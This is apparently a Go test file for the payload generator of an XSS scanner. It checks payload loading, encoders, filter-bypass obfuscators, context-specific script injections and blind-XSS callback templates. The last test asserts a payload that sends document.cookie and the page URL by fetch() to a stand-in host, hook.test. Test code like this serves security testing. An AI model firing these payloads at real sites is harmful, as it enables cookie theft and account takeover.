package payloads

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/Serdar715/shadowx/internal/config"
)

func writeFile(t *testing.T, content string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "payloads.txt")
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestLoadFromFile(t *testing.T) {
	path := writeFile(t, "# comment\n<b>{{MARKER}}</b>\n\n  <i>x</i>  \n<b>{{MARKER}}</b>\n")

	got, err := NewGenerator().LoadFromFile(path)
	if err != nil {
		t.Fatalf("LoadFromFile: %v", err)
	}
	want := []string{"<b>{{MARKER}}</b>", "<i>x</i>"}
	if len(got) != len(want) {
		t.Fatalf("got %v, want %v", got, want)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("payload %d = %q, want %q", i, got[i], want[i])
		}
	}
}

func TestLoad(t *testing.T) {
	g := NewGenerator()

	t.Run("empty path uses built-in set", func(t *testing.T) {
		got, err := g.Load("")
		if err != nil || len(got) == 0 {
			t.Fatalf("Load(\"\") = %d payloads, %v", len(got), err)
		}
	})

	t.Run("comment-only file is rejected", func(t *testing.T) {
		_, err := g.Load(writeFile(t, "# nothing\n\n"))
		if !errors.Is(err, config.ErrNoPayloads) {
			t.Errorf("err = %v, want ErrNoPayloads", err)
		}
	})

	t.Run("missing file", func(t *testing.T) {
		if _, err := g.Load(filepath.Join(t.TempDir(), "nope.txt")); err == nil {
			t.Error("expected error for missing file")
		}
	})
}

func TestExpandKeepsPlaceholder(t *testing.T) {
	base := []string{`<script>alert("{{MARKER}}")</script>`}
	out := NewGenerator().Expand(base)

	if out[0] != base[0] {
		t.Errorf("originals must come first, got %q", out[0])
	}
	if len(out) < 5 {
		t.Fatalf("expected several variants, got %v", out)
	}
	for _, p := range out {
		if !strings.Contains(p, MarkerPlaceholder) {
			t.Errorf("variant lost placeholder: %q", p)
		}
	}
}

func TestEncoder(t *testing.T) {
	enc := NewEncoder()

	if got := enc.URLEncode("<b>{{MARKER}}</b>"); got != "%3Cb%3E{{MARKER}}%3C%2Fb%3E" {
		t.Errorf("URLEncode = %q", got)
	}
	if got := enc.HTMLEntityEncode("<i>"); got != "&#60;i&#62;" {
		t.Errorf("HTMLEntityEncode = %q", got)
	}
	if got := enc.UnicodeEncode("(x)"); got != `\u0028x\u0029` {
		t.Errorf("UnicodeEncode = %q", got)
	}
}

func TestObfuscator(t *testing.T) {
	obf := NewObfuscator(1)
	payload := "<script>alert(1)</script>"

	if got := obf.InjectWhitespace(payload); got != "<script >alert(1)</script>" {
		t.Errorf("InjectWhitespace = %q", got)
	}
	if got := obf.InjectComments(payload); !strings.Contains(got, "scr<!--x-->ipt") {
		t.Errorf("InjectComments = %q", got)
	}
	if got := obf.RandomCase(payload); !strings.EqualFold(got, payload) {
		t.Errorf("RandomCase changed more than case: %q", got)
	}
}

func TestForContext(t *testing.T) {
	got := ForContext(config.ContextHTMLComment)
	if len(got) != len(contextPayloads[config.ContextHTMLComment])+bypassSlice {
		t.Errorf("got %d payloads", len(got))
	}
	if got[0] != `--><script>alert("{{MARKER}}")</script><!--` {
		t.Errorf("first payload = %q", got[0])
	}

	unknown := ForContext(config.ContextUnknown)
	if unknown[0] != contextPayloads[config.ContextHTMLBody][0] {
		t.Error("unknown context must fall back to html_body templates")
	}
}

func TestCustomVariants(t *testing.T) {
	tests := []struct {
		kind  config.ContextKind
		first string
	}{
		{config.ContextScriptTag, `";alert(1);var dummy="`},
		{config.ContextHTMLAttribute, `"><script>alert(1)</script><div dummy="`},
		{config.ContextHTMLBody, `<script>alert(1)</script>`},
		{config.ContextStyleTag, `<script>alert(1)</script>`},
	}
	for _, tt := range tests {
		t.Run(tt.kind.String(), func(t *testing.T) {
			got := CustomVariants(tt.kind, "alert(1)")
			if len(got) != 4 || got[0] != tt.first {
				t.Errorf("CustomVariants = %v", got)
			}
		})
	}
}

func TestBlindTemplates(t *testing.T) {
	templates := BlindTemplates()
	if len(templates) != 17 {
		t.Fatalf("got %d templates, want 17", len(templates))
	}
	for _, tpl := range templates {
		if !strings.Contains(tpl, UniqueIDPlaceholder) {
			t.Errorf("template without unique id: %q", tpl)
		}
	}

	filled := FillBlind(templates[0], "http://hook.test/", "hook.test", "abc123")
	if filled != `<img src="http://hook.test/img/abc123">` {
		t.Errorf("FillBlind = %q", filled)
	}
	dns := FillBlind(templates[5], "http://hook.test", "hook.test", "abc123")
	if !strings.Contains(dns, "http://abc123.hook.test/dns") {
		t.Errorf("dns template = %q", dns)
	}
}

func TestCustomBlindPayload(t *testing.T) {
	p := CustomBlindPayload("http://hook.test/x", nil)
	for _, want := range []string{`"cookie": document.cookie`, `"href": window.location.href`, `fetch("http://hook.test/x"`, "btoa("} {
		if !strings.Contains(p, want) {
			t.Errorf("payload missing %q:\n%s", want, p)
		}
	}
}
